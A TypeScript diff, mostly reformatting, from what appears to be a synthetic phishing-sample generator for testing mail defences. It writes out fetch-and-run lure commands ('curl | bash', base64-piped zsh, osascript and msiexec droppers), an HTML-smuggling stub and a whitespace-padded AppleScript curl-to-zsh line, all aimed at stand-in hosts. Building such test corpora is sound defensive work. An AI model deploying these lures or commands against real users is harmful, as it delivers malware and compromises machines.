@@ -18,14 +18,32 @@ export interface Template {
 export type AttachmentKind = 'encrypted-zip' | 'lnk' | 'padded-script' | 'smuggling' | 'pdf'
 
 const firsts = 'Alex Maria Jonas Priya Tom Lena Omar Sofia Daniel Yuki Chloe Mateo Nina Ravi Emma Lucas'.split(' ')
-const lasts = 'Berg Santos Novak Mehta Ellis Fischer Haddad Rossi Klein Tanaka Moreau Silva Petrov Shah Olsen Weber'.split(' ')
-const funds = ['Northpeak Ventures', 'Halden Capital', 'Brightwell Fund', 'Corvid Partners', 'Tessera Digital', 'Lumenfield VC']
+const lasts =
+  'Berg Santos Novak Mehta Ellis Fischer Haddad Rossi Klein Tanaka Moreau Silva Petrov Shah Olsen Weber'.split(' ')
+const funds = [
+  'Northpeak Ventures',
+  'Halden Capital',
+  'Brightwell Fund',
+  'Corvid Partners',
+  'Tessera Digital',
+  'Lumenfield VC',
+]
 const projects = ['Orbiter', 'Kestrel', 'Pylon', 'Mosaic', 'Quarry', 'Beacon']
-const companies = ['kestrel-labs.example', 'orbiter.example', 'pylonworks.example', 'mosaic-soft.example', 'brightwell.example', 'novabank.example']
+const companies = [
+  'kestrel-labs.example',
+  'orbiter.example',
+  'pylonworks.example',
+  'mosaic-soft.example',
+  'brightwell.example',
+  'novabank.example',
+]
 const suffixes = ['online', 'xyz', 'us', 'live', 'cloud', 'site', 'com', 'team']
-const letters = (random: Random, count: number): string => Array.from({ length: count }, () => pick(random, [...'abcdefghijklmnopqrstuvwxyz'])).join('')
-const digits = (random: Random, count: number): string => Array.from({ length: count }, () => String(Math.floor(random.next() * 10))).join('')
-const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string => Buffer.from(text, encoding).toString('base64')
+const letters = (random: Random, count: number): string =>
+  Array.from({ length: count }, () => pick(random, [...'abcdefghijklmnopqrstuvwxyz'])).join('')
+const digits = (random: Random, count: number): string =>
+  Array.from({ length: count }, () => String(Math.floor(random.next() * 10))).join('')
+const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string =>
+  Buffer.from(text, encoding).toString('base64')
 
 /** Draws the slots of one copy. */
 export function slots(random: Random): Record<string, string> {
@@ -73,7 +91,12 @@ export function slots(random: Random): Record<string, string> {
       `cmd /c curl -s ${drop}.bat -o %temp%\\u.bat && %temp%\\u.bat`,
       `msiexec /i ${drop} /qn`,
     ]),
-    macpaste: pick(random, [`curl -fsSL ${drop} | bash`, `echo ${base64(`curl -s ${drop} | zsh`)} | base64 -D | zsh`, `/bin/zsh -c "$(curl -fsSL ${drop}.sh)"`, `curl -s ${drop} -o /tmp/zoom.scpt && osascript /tmp/zoom.scpt`]),
+    macpaste: pick(random, [
+      `curl -fsSL ${drop} | bash`,
+      `echo ${base64(`curl -s ${drop} | zsh`)} | base64 -D | zsh`,
+      `/bin/zsh -c "$(curl -fsSL ${drop}.sh)"`,
+      `curl -s ${drop} -o /tmp/zoom.scpt && osascript /tmp/zoom.scpt`,
+    ]),
   }
 }
 
@@ -84,26 +107,68 @@ export function fill(template: Template, random: Random): { name: string; bytes:
   const name = `${template.family}-${letters(random, 5)}.${template.form}`
   if (template.form === 'txt') return { name, bytes: Buffer.from(put(template.text ?? '')) }
   if (template.form === 'ics') {
-    const lines = ['BEGIN:VCALENDAR', 'VERSION:2.0', 'BEGIN:VEVENT', `UID:${letters(random, 10)}@example`, `ORGANIZER;CN=${put('{first} {last}')}:mailto:${put('{firstl}@{company}')}`, `SUMMARY:${put(template.subject ?? '')}`, `LOCATION:${put(template.location ?? '')}`, `DESCRIPTION:${put(template.text ?? '')}`, 'DTSTART:20260401T150000Z', 'END:VEVENT', 'END:VCALENDAR']
+    const lines = [
+      'BEGIN:VCALENDAR',
+      'VERSION:2.0',
+      'BEGIN:VEVENT',
+      `UID:${letters(random, 10)}@example`,
+      `ORGANIZER;CN=${put('{first} {last}')}:mailto:${put('{firstl}@{company}')}`,
+      `SUMMARY:${put(template.subject ?? '')}`,
+      `LOCATION:${put(template.location ?? '')}`,
+      `DESCRIPTION:${put(template.text ?? '')}`,
+      'DTSTART:20260401T150000Z',
+      'END:VEVENT',
+      'END:VCALENDAR',
+    ]
     return { name, bytes: Buffer.from(lines.join('\r\n')) }
   }
   return { name, bytes: Buffer.from(mail(template, put, random)) }
 }
 
 function mail(template: Template, put: (text: string) => string, random: Random): string {
-  const head = [`From: ${put(template.from ?? 'a@example')}`, 'To: employee@ours.example', `Subject: ${put(template.subject ?? '')}`, 'Date: Tue, 31 Mar 2026 10:00:00 +0000', `Message-ID: <${letters(random, 12)}@mail.example>`, 'MIME-Version: 1.0', ...(template.bulk === true ? ['List-Unsubscribe: <mailto:u@example>'] : [])]
-  const body = template.html === undefined ? ['Content-Type: text/plain; charset=utf-8', '', put(template.text ?? '')] : ['Content-Type: text/html; charset=utf-8', '', put(template.html)]
+  const head = [
+    `From: ${put(template.from ?? 'a@example')}`,
+    'To: employee@ours.example',
+    `Subject: ${put(template.subject ?? '')}`,
+    'Date: Tue, 31 Mar 2026 10:00:00 +0000',
+    `Message-ID: <${letters(random, 12)}@mail.example>`,
+    'MIME-Version: 1.0',
+    ...(template.bulk === true ? ['List-Unsubscribe: <mailto:u@example>'] : []),
+  ]
+  const body =
+    template.html === undefined
+      ? ['Content-Type: text/plain; charset=utf-8', '', put(template.text ?? '')]
+      : ['Content-Type: text/html; charset=utf-8', '', put(template.html)]
   if (template.attachment === undefined) return [...head, ...body].join('\r\n')
   const attached = attachmentBytes(template.attachment.kind)
-  return [...head, 'Content-Type: multipart/mixed; boundary=b1', '', '--b1', ...body, '--b1', `Content-Type: application/octet-stream; name="${template.attachment.name}"`, `Content-Disposition: attachment; filename="${template.attachment.name}"`, 'Content-Transfer-Encoding: base64', '', attached.toString('base64'), '--b1--', ''].join('\r\n')
+  return [
+    ...head,
+    'Content-Type: multipart/mixed; boundary=b1',
+    '',
+    '--b1',
+    ...body,
+    '--b1',
+    `Content-Type: application/octet-stream; name="${template.attachment.name}"`,
+    `Content-Disposition: attachment; filename="${template.attachment.name}"`,
+    'Content-Transfer-Encoding: base64',
+    '',
+    attached.toString('base64'),
+    '--b1--',
+    '',
+  ].join('\r\n')
 }
 
 /** Bytes with the marks of a type and nothing that would run. */
 function attachmentBytes(kind: AttachmentKind): Buffer {
   if (kind === 'pdf') return Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF')
-  if (kind === 'lnk') return Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(60)])
-  if (kind === 'smuggling') return Buffer.from('<html><script>var b=atob("AAAA");var u=URL.createObjectURL(new Blob([b]));a.download="x.zip";a.click()</script></html>')
-  if (kind === 'padded-script') return Buffer.from(`-- support\n${'\n'.repeat(4000)}do shell script "curl -s https://x.invalid/a | zsh"\n`)
+  if (kind === 'lnk')
+    return Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(60)])
+  if (kind === 'smuggling')
+    return Buffer.from(
+      '<html><script>var b=atob("AAAA");var u=URL.createObjectURL(new Blob([b]));a.download="x.zip";a.click()</script></html>',
+    )
+  if (kind === 'padded-script')
+    return Buffer.from(`-- support\n${'\n'.repeat(4000)}do shell script "curl -s https://x.invalid/a | zsh"\n`)
   const header = Buffer.alloc(30)
   header.write('PK\u0003\u0004', 'latin1')
   header.writeUInt16LE(1, 6)
